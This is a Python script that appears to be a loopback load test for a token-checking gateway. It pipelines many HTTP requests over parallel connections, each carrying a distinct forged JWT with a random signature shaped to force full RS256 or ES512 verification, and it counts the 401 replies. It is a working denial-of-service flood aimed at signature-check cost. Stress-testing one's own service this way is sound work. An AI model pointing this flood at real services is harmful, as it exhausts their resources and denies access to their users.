"""Floods a gateway with distinct invalid tokens until its input ends; then prints how many requests were answered.

attack.py KIND PORT --path PATH --connections N --pipeline N

Each connection sends so many requests in one write, reads the answers to all of them, and goes on. Every token is of the
right form and another one. Kinds: `rs256` and `es512` name a key that the gateway has, with a random signature; `unknown-kid`
names another key each time. Loopback only.
"""

import argparse
import base64
import json
import os
import selectors
import socket
import sys
import time

ANSWER = b"HTTP/1.1 401"


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def claims():
    now = int(time.time())
    body = {"iss": "https://idp.example/op", "sub": "nobody", "aud": "poort", "iat": now - 10, "exp": now + 3_600}
    # About as long as the good ones.
    body["abb_loketLB_rol_3d"] = [f"LoketLB-{number}Gebruiker:0999999922" for number in range(10)]
    return encoded(json.dumps(body).encode())


def stems(kind):
    """What is signed: header and claims; a new one for each token where the header must differ."""
    payload = claims()
    if kind != "unknown-kid":
        header = {"rs256": {"alg": "RS256", "kid": "k1"}, "es512": {"alg": "ES512", "kid": "k2"}}[kind]
        stem = encoded(json.dumps(header).encode()) + b"." + payload
        while True:
            yield stem
    while True:
        header = {"alg": "RS256", "kid": os.urandom(9).hex()}
        yield encoded(json.dumps(header).encode()) + b"." + payload


def signature(kind):
    # A leading zero keeps the numbers below the modulus and the order of the curve, so that all of the check is made.
    if kind == "es512":
        return encoded(b"\0" + os.urandom(65) + b"\0" + os.urandom(65))
    return encoded(b"\0" + os.urandom(255))


class Connection:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.unsent = b""
        self.unanswered = 0
        self.tail = b""


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["rs256", "es512", "unknown-kid"])
    parser.add_argument("port", type=int)
    parser.add_argument("--path", required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--pipeline", type=int, required=True)
    arguments = parser.parse_args()
    stem = stems(arguments.kind)
    head = f"GET {arguments.path} HTTP/1.1\r\nHost: loket.example\r\nAuthorization: Bearer ".encode()

    def batch():
        tokens = (next(stem) + b"." + signature(arguments.kind) for _ in range(arguments.pipeline))
        return b"".join(head + token + b"\r\n\r\n" for token in tokens)

    selector = selectors.DefaultSelector()
    for _ in range(arguments.connections):
        connection = Connection(arguments.port)
        selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
    selector.register(sys.stdin, selectors.EVENT_READ, None)
    answered = 0
    print("attacking", flush=True)
    while True:
        for key, events in selector.select():
            connection = key.data
            if connection is None:
                print(answered, flush=True)
                return
            if events & selectors.EVENT_READ:
                data = connection.tail + connection.socket.recv(1 << 18)
                if data == connection.tail:
                    sys.exit("the gateway closed a connection of the flood")
                count = data.count(ANSWER)
                connection.tail = data[-(len(ANSWER) - 1):]
                answered += count
                connection.unanswered -= count
            if events & selectors.EVENT_WRITE:
                if not connection.unsent and connection.unanswered == 0:
                    connection.unsent = batch()
                    connection.unanswered = arguments.pipeline
                if connection.unsent:
                    sent = connection.socket.send(connection.unsent)
                    connection.unsent = connection.unsent[sent:]
            waits = selectors.EVENT_READ
            if connection.unsent or connection.unanswered == 0:
                waits |= selectors.EVENT_WRITE
            selector.modify(connection.socket, waits, connection)


main()
